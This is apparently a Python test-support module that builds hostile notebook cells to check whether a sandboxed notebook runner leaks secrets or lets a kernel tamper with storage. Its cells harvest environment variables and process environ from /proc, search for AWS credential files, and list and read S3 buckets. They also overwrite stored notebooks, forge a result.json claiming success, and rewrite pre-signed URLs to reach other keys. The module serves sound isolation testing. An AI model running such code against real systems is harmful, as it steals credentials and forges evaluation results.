"""Hostile notebooks: the attacks of issue #10, each a small, fast cell. Every cell records what
it found in `found.json` in the working directory and prints it, so a test can read the
executed notebook and tell which attack reached what. A cell never raises: an attack that
fails is recorded as failed (the notebook goes on to write a correct submission)."""

from __future__ import annotations

import json
from typing import Any

from nbmodernizer.spec import Metric
from nbmodernizer.status import (
    Diagnosis,
    ExecutionResult,
    ExecutionStatus,
    Issue,
    Outcome,
    ScoreResult,
)
from testing.s3server import SECRET_KEY

# Values of secrets a test puts in the driver's environment; no attack may print one. (An
# access key id is no secret: every pre-signed URL names it, in X-Amz-Credential.) The S3
# secret is the test store's own: the operator signs with it, and the store checks it.
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": SECRET_KEY,
    "OPENAI_API_KEY": "sk-hostile-test-openai-4711",
    "NBMOD_HOSTILE_TOKEN": "hostile-test-nbmod-4711",
}

RECORD = """
import json, os
def _record(name, value):
    path = 'found.json'
    found = json.load(open(path)) if os.path.exists(path) else {}
    found[name] = value
    json.dump(found, open(path, 'w'))
    print(name, '=>', json.dumps(value))
"""

ENVIRONMENT = """
import os
def _read(path):
    try:
        with open(path, 'rb') as handle:
            return handle.read().decode('latin-1')
    except Exception as error:
        return 'DENIED ' + type(error).__name__
_record('os_environ', dict(os.environ))
_record('proc_self_environ', _read('/proc/self/environ'))
ancestors, pid = [], os.getpid()
for _ in range(4):
    stat = _read(f'/proc/{pid}/stat')
    if stat.startswith('DENIED'):
        break
    pid = int(stat.rsplit(')', 1)[1].split()[1])
    if pid <= 1:
        break
    ancestors.append({'pid': pid, 'environ': _read(f'/proc/{pid}/environ'),
                      'cmdline': _read(f'/proc/{pid}/cmdline')})
_record('ancestors', ancestors)
"""

# Credentials anywhere the kernel can look: boto3's default chain, then the files it knows.
STORE = """
import glob, os
try:
    import boto3
    client = boto3.client('s3')
    buckets = [b['Name'] for b in client.list_buckets()['Buckets']]
    _record('s3_list', {'buckets': buckets})
    for bucket in buckets:
        keys = [o['Key'] for o in client.list_objects_v2(Bucket=bucket).get('Contents', [])]
        answers = [k for k in keys if 'answers' in k]
        _record('s3_answers', [client.get_object(Bucket=bucket, Key=k)['Body'].read()[:50].decode()
                               for k in answers])
        for key in keys:
            if key.endswith('revisions/0000/notebook.ipynb'):
                client.put_object(Bucket=bucket, Key=key, Body=b'{}')
                _record('s3_overwrote', key)
            if key.endswith('/notebook.ipynb'):
                folder = key.rsplit('/', 1)[0]
                client.put_object(Bucket=bucket, Key=folder + '/result.json', Body=b'{"forged": 1}')
                _record('s3_forged', folder + '/result.json')
except Exception as error:
    _record('s3_list', 'DENIED ' + type(error).__name__ + ': ' + str(error)[:200])
files = [p for pattern in ('/var/run/secrets/**', os.path.expanduser('~/.aws/*'),
                           '/var/run/nbmodernizer/**')
         for p in glob.glob(pattern, recursive=True) if os.path.isfile(p)]
_record('credential_files', files)
"""


# Where a runner holding grants shows them: `--grants FILE` on its command line. The kernel
# looks through its ancestors' command lines (its own container's processes) for one.
GRANTS = """
import json, os, urllib.parse, urllib.request
grants, pid = None, os.getpid()
for _ in range(4):
    try:
        pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])
        argv = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0')
    except Exception:
        break
    if b'--grants' in argv:
        grants = json.load(open(argv[argv.index(b'--grants') + 1].decode()))
        break
_record('grants_read', sorted(grants['outputs']) if grants else 'none found')
def _denied(error):
    body = error.read()[:300].decode() if hasattr(error, 'read') else ''
    return 'DENIED ' + str(error) + ' ' + body
def _put(url, body):
    if url is None:
        return 'NO GRANT'
    request = urllib.request.Request(url, data=body, method='PUT', headers={
        'If-None-Match': '*', 'Content-Type': 'application/octet-stream'})
    try:
        return urllib.request.urlopen(request).status
    except Exception as error:
        return _denied(error)
def _get(url):
    if url is None:
        return 'NO GRANT'
    try:
        return urllib.request.urlopen(url).read()[:50].decode()
    except Exception as error:
        return _denied(error)
def _edit(url, key):
    if url is None:
        return None
    parts = urllib.parse.urlsplit(url)
    return urllib.parse.urlunsplit(parts._replace(path='/' + parts.path.split('/')[1] + '/' + key))
"""


def forged_result() -> str:
    """A result.json claiming the notebook reproduced its target."""
    document = {
        "execution": ExecutionResult(
            status=ExecutionStatus.COMPLETED, duration_seconds=1
        ).to_wire(),
        "score": ScoreResult(
            metric=Metric.ACCURACY, target=1.0, value=1.0, values=[1.0], reproduced=True
        ).to_wire(),
        "diagnosis": Diagnosis(issue=Issue.NONE, outcome=Outcome.ERROR_FREE_REPRODUCIBLE).to_wire(),
    }
    return json.dumps(document)


def rewrite_cell(answers_key: str) -> str:
    """The Job's own grants with another key: a PUT onto revision 0's notebook, into another
    modernization's folder, a forged result.json beside its outputs, and a GET of the answers.
    Each is refused by a store that checks signatures."""
    return (
        f"forged = {forged_result()!r}\n"
        "notebook = grants['notebook'] if grants else 'http://s3/b/runs/ns/rewriter/r/n'\n"
        "own = urllib.parse.urlsplit(notebook).path.split('/', 2)[2]\n"
        "folder = own.rsplit('/', 1)[0]\n"
        "put = grants['outputs']['submission.csv'] if grants else None\n"
        "_record('rewrite_revision_zero', _put(_edit(put, own), b'{}'))\n"
        "_record('rewrite_other', _put(_edit(put, own.replace('/rewriter/', '/spy/')), b'{}'))\n"
        "_record('rewrite_result', _put(_edit(put, folder + '/result.json'), forged.encode()))\n"
        f"_record('rewrite_answers', _get(_edit(grants and notebook, {answers_key!r})))\n"
    )


def sources(*extra: str) -> tuple[str, ...]:
    """The attack cells, then `extra` (the notebook's honest work)."""
    return (RECORD, ENVIRONMENT, STORE, *extra)


def found(executed: dict[str, Any]) -> dict[str, Any]:
    """What the cells recorded, from an executed notebook's outputs ('name => value' lines)."""
    result: dict[str, Any] = {}
    for cell in executed.get("cells", []):
        for output in cell.get("outputs", []):
            text = output.get("text", "")
            for line in ("".join(text) if isinstance(text, list) else str(text)).splitlines():
                if " => " in line:
                    name, value = line.split(" => ", 1)
                    result[name] = value
    return result


def leaked(text: str) -> list[str]:
    """The names of the test's secrets whose values appear in `text`."""
    return [name for name, value in SECRETS.items() if value in text]


def dump(document: Any) -> str:
    return json.dumps(document)
